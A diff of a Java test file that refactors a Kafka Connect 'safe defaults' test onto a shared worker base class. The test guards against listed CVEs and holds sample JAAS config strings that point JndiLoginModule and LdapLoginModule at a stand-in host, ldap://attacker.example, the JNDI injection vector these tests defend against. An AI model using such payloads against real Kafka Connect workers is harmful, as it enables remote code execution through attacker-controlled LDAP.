@@ -7,37 +7,24 @@ import static org.assertj.core.api.Assertions.assertThatThrownBy;
 import io.ferry.runtime.config.ConfigProblem;
 import io.ferry.runtime.config.ConnectorConfigException;
 import io.ferry.runtime.testing.WorkerFixture;
+import io.ferry.runtime.testing.WorkerTest;
 import java.nio.file.Files;
 import java.nio.file.Path;
 import java.util.Map;
 import org.apache.kafka.common.config.ConfigException;
 import org.apache.kafka.connect.errors.ConnectException;
-import org.junit.jupiter.api.AfterEach;
 import org.junit.jupiter.api.Test;
-import org.junit.jupiter.api.io.TempDir;
 
 /**
  * Safe by default (Kafka Connect's CVE-2023-25194, CVE-2025-27818, CVE-2024-31141): client
  * overrides, JAAS login modules and config providers, tried through a real worker.
  */
-class SafeDefaultsTest {
+class SafeDefaultsTest extends WorkerTest {
 
     private static final String JNDI = "com.sun.security.auth.module.JndiLoginModule required "
             + "user.provider.url=\"ldap://attacker.example/x\" useFirstPass=\"true\";";
     private static final String LDAP = "com.sun.security.auth.module.LdapLoginModule required userProvider=\"ldap://attacker.example\";";
     private static final String PLAIN = "org.apache.kafka.common.security.plain.PlainLoginModule required username=\"u\" password=\"p4ssw0rd\";";
-
-    @TempDir
-    Path root;
-
-    private WorkerFixture fixture;
-
-    @AfterEach
-    void tearDown() {
-        if (fixture != null) {
-            fixture.close();
-        }
-    }
 
     private Map<String, String> source(String... more) {
         Map<String, String> config = connector("name", "src", "connector.class", "FileStreamSource",
